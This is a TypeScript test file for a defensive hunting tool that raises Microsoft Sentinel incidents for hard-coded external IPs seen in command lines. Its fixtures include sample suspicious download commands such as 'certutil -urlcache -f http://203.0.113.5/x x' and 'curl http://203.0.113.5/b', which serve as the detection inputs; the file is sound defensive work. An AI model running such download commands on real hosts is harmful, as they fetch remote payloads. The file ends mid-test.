import { afterEach, describe, expect, it } from 'vitest';
import type { Incident } from '@azure/arm-securityinsight';
import { createPublisher } from '../../src/sentinel/createPublisher.js';
import { publishIds, sightingIds } from '../../src/sentinel/publishIds.js';
import type { PublishOutcome } from '../../src/sentinel/publishTypes.js';
import type { SeenRecord } from '../../src/state/stateStore.js';
import { entitiesFromText } from '../../src/entities/entityLists.js';
import type { SentinelConfig } from '../../src/config/loadConfig.js';
import type { Finding } from '../../src/findings/finding.js';
import { accountsOf, CONTEXT, finding, hostsOf, startHarness, WORKSPACE_ID, type Harness } from './sentinelFixtures.js';

let harness: Harness | undefined;
afterEach(async () => {
  await harness?.server.close();
  harness = undefined;
});

async function setup(config: Partial<SentinelConfig> = {}): Promise<Harness & { publisher: ReturnType<typeof createPublisher> }> {
  harness = await startHarness({ config });
  return { ...harness, publisher: createPublisher({ client: harness.client, config: harness.config, workspaceId: WORKSPACE_ID }) };
}

function counts(h: Harness) {
  const s = h.server.store;
  return { incidents: s.count('incident'), bookmarks: s.count('bookmark'), relations: s.count('relation'), comments: s.count('comment') };
}

/** What the hunt's state would remember after publishing `f` as `outcome`. */
function priorOf(f: Finding, outcome: PublishOutcome): SeenRecord {
  return {
    ip: f.ip,
    incidentId: outcome.incidentId!,
    generation: outcome.generation,
    entities: f.entities,
    commandLines: f.commandLines,
    firstReported: CONTEXT.now,
    lastReported: CONTEXT.now,
    lastSeen: f.lastSeen,
  };
}

const ips = (n: number) => Array.from({ length: n }, (_, i) => `203.0.113.${i + 1}`);

async function getIncident(h: Harness, id: string): Promise<Incident> {
  return h.client.incidents.get(h.config.resourceGroup, h.config.workspaceName, id);
}

/** The incident's entities as `kind:name`, sorted, from `POST incidents/{id}/entities`. */
async function entityNames(h: Harness, id: string): Promise<string[]> {
  const { entities = [] } = await h.client.incidents.listEntities(h.config.resourceGroup, h.config.workspaceName, id);
  return entities
    .map((e) => {
      const x = e as unknown as Record<string, unknown>;
      return `${e.kind}:${String(x['address'] ?? x['hostName'] ?? x['accountName'])}`;
    })
    .sort();
}

/** `METHOD status path` of the requests after the first `skip`, ids replaced by ID, api-version left out. */
function requestLines(h: Harness, skip: number): string[] {
  return h.server.requests
    .slice(skip)
    .map((r) => `${r.method} ${r.status} ${r.path.replace(/^.*Microsoft.SecurityInsights\//, '').replace(/\?.*$/, '').replace(/[0-9a-f-]{36}/g, 'ID')}`);
}

async function closeIncident(h: Harness, id: string): Promise<void> {
  const current = await getIncident(h, id);
  await h.client.incidents.createOrUpdate(h.config.resourceGroup, h.config.workspaceName, id, {
    ...current,
    status: 'Closed',
    classification: 'FalsePositive',
    classificationReason: 'InaccurateData',
  });
}

describe('createPublisher: recovering from an interrupted run', () => {
  it('reads the incident first and writes it when it is not there', async () => {
    const h = await setup();
    const [outcome] = await h.publisher.publish([{ finding: finding('203.0.113.1'), recovering: true }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'created', generation: 1 });
    expect(requestLines(h, 0)).toEqual(['PUT 201 bookmarks/ID', 'GET 404 incidents/ID', 'PUT 201 incidents/ID', 'PUT 201 incidents/ID/relations/ID']);
  });

  it('leaves an incident the interrupted run created as the analyst has it, and completes its relation', async () => {
    const h = await setup();
    const f = finding('203.0.113.1');
    const [first] = await h.publisher.publish([{ finding: f }], CONTEXT);
    const triaged = await getIncident(h, first!.incidentId!);
    await h.client.incidents.createOrUpdate(h.config.resourceGroup, h.config.workspaceName, first!.incidentId!, { ...triaged, status: 'Active', owner: { email: 'analyst@contoso.com' } });
    const relation = h.server.store.all('relation')[0]!;
    h.server.store.delete(relation.id);
    const skip = h.server.requests.length;

    const [again] = await h.publisher.publish([{ finding: f, recovering: true }], CONTEXT);
    expect(again).toMatchObject({ action: 'unchanged', incidentId: first!.incidentId, detail: expect.stringMatching(/interrupted run/) });
    expect(requestLines(h, skip)).toEqual(['PUT 200 bookmarks/ID', 'GET 200 incidents/ID', 'PUT 201 incidents/ID/relations/ID']);
    const after = await getIncident(h, first!.incidentId!);
    expect(after.status).toBe('Active');
    expect(after.owner?.email).toBe('analyst@contoso.com');
    expect(counts(h)).toMatchObject({ incidents: 1, bookmarks: 1, relations: 1 });
  });

  it('plans the read in a dry run', async () => {
    const h = await setup();
    const [outcome] = await h.publisher.publish([{ finding: finding('203.0.113.1'), recovering: true }], { ...CONTEXT, dryRun: true });
    expect(outcome!.payloads!.map((p) => p.method)).toEqual(['PUT', 'GET', 'PUT', 'PUT']);
    expect(h.server.requests).toHaveLength(0);
  });
});

describe('createPublisher: new IPs', () => {
  it('brings the IP, host and account entities to the incident with the newest preview api-version (2025-10-01-preview)', async () => {
    const h = await setup({ apiVersion: '2025-10-01-preview' });
    const [outcome] = await h.publisher.publish([{ finding: finding('203.0.113.1', { hosts: ['web01.contoso.com'], accounts: ['CONTOSO\\alice'] }) }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'created' });
    const { entities = [] } = await h.client.incidents.listEntities(h.config.resourceGroup, h.config.workspaceName, outcome!.incidentId!);
    expect(entities.map((e) => e.kind)).toEqual(['Ip', 'Host', 'Account']);
    expect(entities[1]).toMatchObject({ hostName: 'web01', dnsDomain: 'contoso.com' });
  });

  it('creates a bookmark, an incident and a relation per new IP, exactly three calls each', async () => {
    const h = await setup();
    const outcomes = await h.publisher.publish(ips(3).map((ip) => ({ finding: finding(ip) })), CONTEXT);
    expect(outcomes.map((o) => [o.ip, o.action, o.generation])).toEqual(ips(3).map((ip) => [ip, 'created', 1]));
    expect(outcomes.map((o) => o.incidentNumber).sort()).toEqual([1, 2, 3]);
    expect(h.server.requests).toHaveLength(9);
    for (const r of h.server.requests) expect(r).toMatchObject({ method: 'PUT', status: 201 });
    expect(counts(h)).toEqual({ incidents: 3, bookmarks: 3, relations: 3, comments: 0 });
  });

  it('gives the incident its entities through the related bookmark', async () => {
    const h = await setup();
    const f = finding('203.0.113.5', { hosts: ['web01.contoso.com', 'DB02'], accounts: ['CONTOSO\\alice'] });
    const [outcome] = await h.publisher.publish([{ finding: f }], CONTEXT);
    const { entities = [] } = await h.client.incidents.listEntities(h.config.resourceGroup, h.config.workspaceName, outcome!.incidentId!);
    const summary = entities.map((e) => {
      const x = e as unknown as Record<string, unknown>;
      return `${e.kind}:${String(x['address'] ?? x['hostName'] ?? x['accountName'])}`;
    });
    expect(summary.sort()).toEqual(['Account:alice', 'Host:DB02', 'Host:web01', 'Ip:203.0.113.5']);
    const incident = await getIncident(h, outcome!.incidentId!);
    expect(incident.title).toBe('Hard-coded external IP 203.0.113.5 in command lines on 2 hosts');
    expect(incident.labels?.map((l) => l.labelName)).toEqual(['cmdline-ip-hunter', 'soc-triage']);
    expect(incident.additionalData?.tactics).toEqual(['CommandAndControl', 'Exfiltration']);
    expect(incident.additionalData?.techniques).toEqual(['T1041', 'T1071']);
  });

  it('sets severity High at the host threshold or for an indicator IP', async () => {
    const h = await setup({ highSeverityHostCount: 2, indicatorCidrs: [{ cidr: '198.51.100.0/24', source: '198.51.100.0/24' }] });
    const outcomes = await h.publisher.publish(
      [
        { finding: finding('203.0.113.1') },
        { finding: finding('203.0.113.2', { hosts: ['a', 'b'] }) },
        { finding: finding('198.51.100.9') },
      ],
      CONTEXT,
    );
    const severities = await Promise.all(outcomes.map(async (o) => (await getIncident(h, o.incidentId!)).severity));
    expect(severities).toEqual(['Medium', 'High', 'High']);
  });

  it('reruns with the same findings onto the same ids without duplicating anything', async () => {
    const h = await setup();
    const items = ips(4).map((ip) => ({ finding: finding(ip) }));
    const first = await h.publisher.publish(items, CONTEXT);
    // A crash before the hunt recorded the outcome: the same findings come again without `prior`.
    const second = await h.publisher.publish(items, CONTEXT);
    expect(second.map((o) => o.incidentId)).toEqual(first.map((o) => o.incidentId));
    expect(second.map((o) => o.incidentNumber)).toEqual(first.map((o) => o.incidentNumber));
    expect(second).toHaveLength(4);
    // 200 or 201 says nothing about whether it existed: written again in place, same ids, reported as the create it is.
    for (const o of second) expect(o).toMatchObject({ action: 'created' });
    expect(counts(h)).toEqual({ incidents: 4, bookmarks: 4, relations: 4, comments: 0 });
    // And recorded: the rerun with `prior` sees nothing new.
    const third = await h.publisher.publish(items.map((item, i) => ({ ...item, prior: priorOf(item.finding, first[i]!) })), CONTEXT);
    expect(third.map((o) => [o.action, o.detail])).toEqual(items.map(() => ['unchanged', 'nothing new']));
    expect(counts(h)).toEqual({ incidents: 4, bookmarks: 4, relations: 4, comments: 0 });
  });

  it('defers new incidents over the per-run cap, in input order', async () => {
    const h = await setup({ maxIncidentsPerRun: 2, concurrency: 8 });
    const outcomes = await h.publisher.publish(ips(5).map((ip) => ({ finding: finding(ip) })), CONTEXT);
    expect(outcomes.map((o) => o.action)).toEqual(['created', 'created', 'deferred', 'deferred', 'deferred']);
    expect(outcomes[2]).toMatchObject({ detail: 'over the per-run cap', generation: 1 });
    expect(counts(h).incidents).toBe(2);
  });

  it('returns the exact requests on a dry run and sends none', async () => {
    const h = await setup();
    const [planned] = await h.publisher.publish([{ finding: finding('203.0.113.5') }], { ...CONTEXT, dryRun: true });
    expect(h.server.requests).toHaveLength(0);
    expect(planned).toMatchObject({ action: 'created', detail: 'dry run' });
    const payloads = planned!.payloads!;
    expect(payloads.map((p) => `${p.method} ${p.path.replace(/^.*Microsoft.SecurityInsights\//, '').replace(/[0-9a-f-]{36}/g, 'ID')}`)).toEqual([
      'PUT bookmarks/ID?api-version=2022-09-01-preview',
      'PUT incidents/ID?api-version=2022-09-01-preview',
      'PUT incidents/ID/relations/ID?api-version=2022-09-01-preview',
    ]);
    // A real run stores exactly what the dry run said it would send.
    await h.publisher.publish([{ finding: finding('203.0.113.5') }], CONTEXT);
    for (const p of payloads) {
      const stored = h.server.store.get(p.path.replace(/\?.*$/, ''))!;
      expect(stored.properties).toMatchObject((p.body as { properties: Record<string, unknown> }).properties);
    }
  });
});

describe('createPublisher: re-sightings', () => {
  it('plans a re-sighting on a dry run without reading or writing anything', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const before = h.server.requests.length;
    const f2 = finding('203.0.113.5', { hosts: ['db02'] });
    const [planned] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], { ...CONTEXT, dryRun: true });
    expect(h.server.requests).toHaveLength(before);
    expect(planned).toMatchObject({ action: 'updated', incidentId: created!.incidentId });
    const { bookmarkId, relationName } = sightingIds(created!.incidentId!, entitiesFromText({ hosts: ['db02'] }));
    const payloads = planned!.payloads!;
    expect(payloads.map((p) => `${p.method} ${p.path.replace(/^.*Microsoft.SecurityInsights\//, '').replace(/\?.*$/, '')}`)).toEqual([
      `GET incidents/${created!.incidentId}`,
      `PUT bookmarks/${bookmarkId}`,
      `PUT incidents/${created!.incidentId}/relations/${relationName}`,
      expect.stringMatching(new RegExp(`^PUT incidents/${created!.incidentId}/comments/[0-9a-f-]{36}$`)),
    ]);
    expect(JSON.stringify(payloads[3]!.body)).toContain('New hosts (1): db02');
    // A real run stores exactly the bookmark, relation and comment the dry run said it would send.
    await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    for (const p of payloads.slice(1)) {
      const stored = h.server.store.get(p.path.replace(/\?.*$/, ''))!;
      expect(stored.properties).toMatchObject((p.body as { properties: Record<string, unknown> }).properties);
    }
  });

  it('plans no bookmark on a dry run when only command lines are new', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const f2 = finding('203.0.113.5', { commandLines: [...f1.commandLines, 'curl http://203.0.113.5/b'] });
    const [planned] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], { ...CONTEXT, dryRun: true });
    expect(planned!.payloads!.map((p) => `${p.method} ${p.path.replace(/^.*Microsoft.SecurityInsights\//, '').replace(/[0-9a-f-]{36}/g, 'ID')}`)).toEqual([
      'GET incidents/ID?api-version=2022-09-01-preview',
      'PUT incidents/ID/comments/ID?api-version=2022-09-01-preview',
    ]);
  });

  it('comments with only what is new on an open incident and moves last activity', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const f2 = finding('203.0.113.5', {
      hosts: [...hostsOf(f1), 'db02'],
      commandLines: [...f1.commandLines, 'certutil -urlcache -f http://203.0.113.5/x x'],
      lastSeen: new Date('2024-05-02T08:00:00Z'),
    });
    const [updated] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(updated).toMatchObject({
      action: 'updated',
      incidentId: created!.incidentId,
      generation: 1,
      detail: 'sighting bookmark added (new hosts: 1, new accounts: 0), last activity moved, comment added',
    });
    const comments = [...h.server.store.all('comment')];
    expect(comments).toHaveLength(1);
    const message = String(comments[0]!.properties['message']);
    expect(message).toContain('New hosts (1): db02');
    expect(message).toContain('certutil -urlcache');
    expect(message).not.toContain('iwr');
    expect((await getIncident(h, created!.incidentId!)).lastActivityTimeUtc).toEqual(new Date('2024-05-02T08:00:00Z'));
    // The same re-sighting again (state not advanced) overwrites the same bookmark, relation and comment.
    await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(counts(h)).toEqual({ incidents: 1, bookmarks: 2, relations: 2, comments: 1 });
  });

  it('brings new hosts and accounts to the incident as entities through one sighting bookmark and relation', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const incidentId = created!.incidentId!;
    expect(await entityNames(h, incidentId)).toEqual(['Account:alice', 'Host:web01', 'Ip:203.0.113.5']);
    const before = h.server.requests.length;
    const f2 = finding('203.0.113.5', {
      hosts: [...hostsOf(f1), 'db02.contoso.com'],
      accounts: [...accountsOf(f1), 'bob@contoso.com'],
      lastSeen: new Date('2024-05-02T08:00:00Z'),
    });
    const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'updated', detail: 'sighting bookmark added (new hosts: 1, new accounts: 1), last activity moved, comment added' });
    // Bookmark, relation, then the incident update and the comment.
    expect(requestLines(h, before)).toEqual([
      'GET 200 incidents/ID',
      'PUT 201 bookmarks/ID',
      'PUT 201 incidents/ID/relations/ID',
      'PUT 200 incidents/ID',
      'PUT 201 incidents/ID/comments/ID',
    ]);
    expect(counts(h)).toEqual({ incidents: 1, bookmarks: 2, relations: 2, comments: 1 });
    const { bookmarkId, relationName } = sightingIds(incidentId, entitiesFromText({ hosts: ['DB02.contoso.com'], accounts: ['BOB@contoso.com'] }));
    const bookmark = h.server.store.get(`${h.server.store.workspaces()[0]}/bookmarks/${bookmarkId}`)!;
    expect(bookmark.properties['entityMappings']).toEqual([
      { entityType: 'IP', fieldMappings: [{ identifier: 'Address', value: '203.0.113.5' }] },
      { entityType: 'Host', fieldMappings: [{ identifier: 'HostName', value: 'db02' }, { identifier: 'DnsDomain', value: 'contoso.com' }] },
      { entityType: 'Account', fieldMappings: [{ identifier: 'Name', value: 'bob' }, { identifier: 'UPNSuffix', value: 'contoso.com' }] },
    ]);
    expect(h.server.store.get(`${h.server.store.workspaces()[0]}/incidents/${incidentId}/relations/${relationName}`)).toBeDefined();
    expect(await entityNames(h, incidentId)).toEqual(['Account:alice', 'Account:bob', 'Host:db02', 'Host:web01', 'Ip:203.0.113.5']);
    expect((await getIncident(h, incidentId)).additionalData?.bookmarksCount).toBe(2);
  });

  it('creates nothing new when the same re-sighting runs again', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const f2 = finding('203.0.113.5', { hosts: [...hostsOf(f1), 'db02'], lastSeen: new Date('2024-05-02T08:00:00Z') });
    const item = { finding: f2, prior: priorOf(f1, created!) };
    const [first] = await h.publisher.publish([item], CONTEXT);
    const after = counts(h);
    const names = (kind: 'bookmark' | 'relation' | 'comment') => h.server.store.all(kind).map((r) => r.id);
    const ids = { bookmarks: names('bookmark'), relations: names('relation'), comments: names('comment') };
    // The hunt did not record the outcome (a crash): the same finding and prior come again.
    const [second] = await h.publisher.publish([item], CONTEXT);
    expect(after).toEqual({ incidents: 1, bookmarks: 2, relations: 2, comments: 1 });
    expect(counts(h)).toEqual(after);
    expect({ bookmarks: names('bookmark'), relations: names('relation'), comments: names('comment') }).toEqual(ids);
    expect(first!.detail).toMatch(/^sighting bookmark added/);
    expect(second!.detail).toMatch(/^sighting bookmark added/);
    expect(await entityNames(h, created!.incidentId!)).toEqual(['Account:alice', 'Host:db02', 'Host:web01', 'Ip:203.0.113.5']);
  });

  it('adds no bookmark for a re-sighting with only new command lines', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const before = h.server.requests.length;
    const f2 = finding('203.0.113.5', {
      hosts: ['WEB01.contoso.com'],
      commandLines: [...f1.commandLines, 'curl http://203.0.113.5/b'],
      lastSeen: new Date('2024-05-02T08:00:00Z'),
    });
    const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'updated', detail: 'last activity moved, comment added' });
    expect(requestLines(h, before)).toEqual(['GET 200 incidents/ID', 'PUT 200 incidents/ID', 'PUT 201 incidents/ID/comments/ID']);
    expect(counts(h)).toEqual({ incidents: 1, bookmarks: 1, relations: 1, comments: 1 });
  });

  it('lists new hosts and accounts beyond the entity limit in the sighting bookmark notes', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const hosts = Array.from({ length: 12 }, (_, i) => `h${i}`);
    const f2 = finding('203.0.113.5', { hosts });
    await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    const sighting = h.server.store.all('bookmark')[1]!;
    expect(sighting.properties['entityMappings']).toHaveLength(10);
    expect(String(sighting.properties['notes'])).toContain('Hosts not mapped as entities (limit reached): h9, h10, h11');
    expect(await entityNames(h, created!.incidentId!)).toHaveLength(3 + 9);
  });

  it('skips the sighting bookmark, but still comments, once the incident has the service maximum of related bookmarks', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    const { resourceGroup: rg, workspaceName: ws } = h.config;
    for (let i = 0; i < 19; i += 1) {
      const saved = await h.client.bookmarks.createOrUpdate(rg, ws, `b${i}`, { displayName: `b${i}`, query: 'q' });
      await h.client.incidentRelations.createOrUpdate(rg, ws, created!.incidentId!, `r${i}`, { relatedResourceId: saved.id! });
    }
    const f2 = finding('203.0.113.5', { hosts: ['db02'] });
    const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'updated', detail: 'sighting bookmark skipped (incident has 20 related bookmarks, the service limit), comment added' });
    expect(counts(h)).toEqual({ incidents: 1, bookmarks: 20, relations: 20, comments: 1 });
  });

  it('skips the comment, but still moves last activity, once the incident has the service maximum of comments', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    for (let i = 0; i < 100; i += 1) {
      await h.client.incidentComments.createOrUpdate(h.config.resourceGroup, h.config.workspaceName, created!.incidentId!, `c${i}`, { message: `note ${i}` });
    }
    const f2 = finding('203.0.113.5', { hosts: ['db02'], lastSeen: new Date('2024-05-04T00:00:00Z') });
    const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome).toMatchObject({
      action: 'updated',
      detail: 'sighting bookmark added (new hosts: 1, new accounts: 0), last activity moved, comment skipped (incident has 100 comments, the service limit)',
    });
    expect(h.server.store.count('comment')).toBe(100);
  });

  it('re-reads and retries once when the incident changed under it (409 Conflict)', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    h.server.faults.next(
      { kind: 'status', status: 409, code: 'Conflict', message: "New version of resource 'x' exists. Data was not saved" },
      { match: (r) => r.method === 'PUT' && /\/incidents\/[^/]+$/.test(r.path) },
    );
    const f2 = finding('203.0.113.5', { lastSeen: new Date('2024-05-03T00:00:00Z') });
    const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'updated', detail: 'last activity moved' });
    expect(h.server.requests.slice(3).map((r) => `${r.method} ${r.status}`)).toEqual(['GET 200', 'PUT 409', 'GET 200', 'PUT 200']);
  });

  describe('closed incidents', () => {
    async function closedScenario(config: Partial<SentinelConfig>, now = CONTEXT.now) {
      const h = await setup(config);
      const f1 = finding('203.0.113.5');
      const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
      await closeIncident(h, created!.incidentId!);
      const f2 = finding('203.0.113.5', { hosts: ['db02'], lastSeen: new Date('2024-05-02T00:00:00Z') });
      const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], { ...CONTEXT, now });
      return { h, created: created!, outcome: outcome! };
    }

    it('ignores it under policy ignore', async () => {
      const { h, outcome, created } = await closedScenario({ closedIncidentPolicy: 'ignore' });
      expect(outcome).toMatchObject({ action: 'unchanged', detail: 'closed incident ignored (policy ignore)', incidentId: created.incidentId });
      expect((await getIncident(h, created.incidentId!)).status).toBe('Closed');
      expect(counts(h)).toEqual({ incidents: 1, bookmarks: 1, relations: 1, comments: 0 });
    });

    it('reopens it with a comment under policy reopen', async () => {
      const { h, outcome, created } = await closedScenario({ closedIncidentPolicy: 'reopen' });
      expect(outcome).toMatchObject({
        action: 'updated',
        detail: 'sighting bookmark added (new hosts: 1, new accounts: 0), reopened, comment added',
        incidentId: created.incidentId,
        generation: 1,
      });
      const incident = await getIncident(h, created.incidentId!);
      expect(incident.status).toBe('Active');
      expect(counts(h)).toEqual({ incidents: 1, bookmarks: 2, relations: 2, comments: 1 });
      expect(await entityNames(h, created.incidentId!)).toContain('Host:db02');
      expect(incident.classification).toBeUndefined();
      expect(String(h.server.store.all('comment')[0]!.properties['message'])).toMatch(/^Reopened by cmdline-ip-hunter: 203.0.113.5 was seen again/);
    });

    it('raises a new incident, generation 2, once closed long enough under policy new', async () => {
      const later = new Date(Date.now() + 8.5 * 86_400_000);
      const { h, outcome, created } = await closedScenario({ closedIncidentPolicy: 'new', newIncidentAfterDays: 7 }, later);
      expect(outcome.action).toBe('created');
      expect(outcome.generation).toBe(2);
      expect(outcome.incidentId).not.toBe(created.incidentId);
      expect(outcome.detail).toMatch(/^new incident, generation 2: incident .* closed 8 day\(s\) ago$/);
      expect(counts(h)).toEqual({ incidents: 2, bookmarks: 2, relations: 2, comments: 0 });
      expect((await getIncident(h, created.incidentId!)).status).toBe('Closed');
    });

    it('ignores it under policy new while it was closed too recently', async () => {
      const { h, outcome } = await closedScenario({ closedIncidentPolicy: 'new', newIncidentAfterDays: 7 }, new Date());
      expect(outcome.action).toBe('unchanged');
      expect(outcome.detail).toMatch(/closed incident ignored \(closed 0 day\(s\) ago; policy new raises a new incident after 7\)/);
      expect(counts(h).incidents).toBe(1);
    });
  });

  it('raises a new generation when the reported incident no longer exists', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    await h.client.incidents.delete(h.config.resourceGroup, h.config.workspaceName, created!.incidentId!);
    const [outcome] = await h.publisher.publish([{ finding: f1, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome).toMatchObject({ action: 'created', generation: 2 });
    expect(outcome!.detail).toMatch(/no longer exists/);
  });
});

describe('createPublisher: faults and failures', () => {
  const publishAll = (h: Awaited<ReturnType<typeof setup>>, n: number) => h.publisher.publish(ips(n).map((ip) => ({ finding: finding(ip) })), CONTEXT);

  it('rides out bursts of 429 with Retry-After, losing and duplicating nothing', async () => {
    const h = await setup({ concurrency: 4 });
    h.server.faults.next({ kind: 'status', status: 429, retryAfterSeconds: 0 }, { times: 12 });
    const outcomes = await publishAll(h, 10);
    expect(outcomes.map((o) => o.action)).toEqual(Array(10).fill('created'));
    expect(h.server.faults.injected['status']).toBe(12);
    expect(counts(h)).toEqual({ incidents: 10, bookmarks: 10, relations: 10, comments: 0 });
  });

  /** A matcher for the n-th attempt at each distinct request path (1-based), so fault tests are deterministic. */
  function attempt(n: number) {
    const seen = new Map<string, number>();
    return (r: { method: string; path: string }) => {
      const count = (seen.get(r.path) ?? 0) + 1;
      seen.set(r.path, count);
      return count === n;
    };
  }

  it('rides out 500s and 503s through the SDK retry policy', async () => {
    const h = await setup();
    // Every request fails twice (500, then 503 with Retry-After: 0) before it goes through.
    const counter = new Map<string, number>();
    const nth = (n: number) => (r: { path: string }) => counter.get(r.path) === n;
    h.server.faults
      .next({ kind: 'status', status: 500 }, { times: Infinity, match: (r) => (counter.set(r.path, (counter.get(r.path) ?? 0) + 1), nth(1)(r)) })
      .next({ kind: 'status', status: 503, retryAfterSeconds: 0 }, { times: Infinity, match: nth(2) });
    const outcomes = await publishAll(h, 10);
    expect(outcomes.map((o) => o.action)).toEqual(Array(10).fill('created'));
    expect(h.server.faults.injected['status']).toBe(60);
    expect(counts(h)).toEqual({ incidents: 10, bookmarks: 10, relations: 10, comments: 0 });
  });

  it('survives connection resets after the change was applied, without duplicates', async () => {
    const h = await setup();
    // The first attempt at every request is applied and its answer lost; the SDK retries the same PUT.
    h.server.faults.next({ kind: 'reset' }, { times: Infinity, match: attempt(1) });
    const outcomes = await publishAll(h, 10);
    expect(outcomes.filter((o) => o.action !== 'created' && o.action !== 'updated')).toEqual([]);
    expect(h.server.faults.injected['reset']).toBe(30);
    expect(counts(h)).toEqual({ incidents: 10, bookmarks: 10, relations: 10, comments: 0 });
    // Each incident number is used once: a retried create did not make a second incident.
    expect(new Set(h.server.store.all('incident').map((i) => i.properties['incidentNumber'])).size).toBe(10);
  });

  it('survives a reset of a re-sighting PUT whose etag is then stale', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    h.server.faults.next({ kind: 'reset' }, { match: (r) => r.method === 'PUT' && /\/incidents\/[^/]+$/.test(r.path) });
    const f2 = finding('203.0.113.5', { hosts: ['db02'], lastSeen: new Date('2024-05-05T00:00:00Z') });
    const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome!.action).toBe('updated');
    expect((await getIncident(h, created!.incidentId!)).lastActivityTimeUtc).toEqual(new Date('2024-05-05T00:00:00Z'));
    expect(counts(h)).toEqual({ incidents: 1, bookmarks: 2, relations: 2, comments: 1 });
  });

  it('survives resets of the sighting bookmark and relation PUTs after they were applied, without duplicates', async () => {
    const h = await setup();
    const f1 = finding('203.0.113.5');
    const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
    // The first attempt at each is applied and its answer lost; the SDK retries the same PUT.
    h.server.faults.next({ kind: 'reset' }, { times: 2, match: (r) => r.method === 'PUT' && /\/(bookmarks|relations)\/[^/]+$/.test(r.path) });
    const f2 = finding('203.0.113.5', { hosts: ['db02'], lastSeen: new Date('2024-05-05T00:00:00Z') });
    const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
    expect(outcome!.action).toBe('updated');
    expect(h.server.faults.injected['reset']).toBe(2);
    expect(counts(h)).toEqual({ incidents: 1, bookmarks: 2, relations: 2, comments: 1 });
    expect(await entityNames(h, created!.incidentId!)).toContain('Host:db02');
  });

  it('leaves the incident untouched when its sighting bookmark fails, and publishes the other IPs', async () => {
    const h = await setup();
    const f1 = ips(2).map((ip) => finding(ip));
    const created = await h.publisher.publish(f1.map((f) => ({ finding: f })), CONTEXT);
    const { bookmarkId } = sightingIds(created[0]!.incidentId!, entitiesFromText({ hosts: ['db02'] }));
    h.server.faults.next(
      { kind: 'status', status: 400, code: 'BadRequest', message: 'Bookmark rejected' },
      { match: (r) => r.method === 'PUT' && r.path.endsWith(`/bookmarks/${bookmarkId}`) },
    );
    const lastSeen = new Date('2024-05-05T00:00:00Z');
    const outcomes = await h.publisher.publish(
      f1.map((f, i) => ({ finding: finding(f.ip, { hosts: ['db02'], lastSeen }), prior: priorOf(f, created[i]!) })),
      CONTEXT,
    );
    expect(outcomes.map((o) => o.action)).toEqual(['failed', 'updated']);
    expect(outcomes[0]!.error).toBe(`PUT bookmark ${bookmarkId} for 203.0.113.1 failed (400 BadRequest): Bookmark rejected`);
    expect((await getIncident(h, created[0]!.incidentId!)).lastActivityTimeUtc).toEqual(f1[0]!.lastSeen);
    expect((await getIncident(h, created[1]!.incidentId!)).lastActivityTimeUtc).toEqual(lastSeen);
    expect(counts(h)).toEqual({ incidents: 2, bookmarks: 3, relations: 3, comments: 1 });
  });

  it('reports one IP failing with operation, target and service message, and publishes the others', async () => {
    const h = await setup();
    const { incidentId } = publishIds(WORKSPACE_ID, h.config.detectionId, '203.0.113.2', 1);
    h.server.faults.next(
      { kind: 'status', status: 400, code: 'BadRequest', message: "Incident 'title' is required" },
      { match: (r) => r.method === 'PUT' && r.path.endsWith(`/incidents/${incidentId}`) },
    );
    const outcomes = await publishAll(h, 3);
    expect(outcomes.map((o) => o.action)).toEqual(['created', 'failed', 'created']);
    expect(outcomes[1]!.error).toBe(`PUT incident ${incidentId} for 203.0.113.2 failed (400 BadRequest): Incident 'title' is required`);
    // Its bookmark was written; the next run rewrites it under the same id.
    const rerun = await h.publisher.publish([{ finding: finding('203.0.113.2') }], CONTEXT);
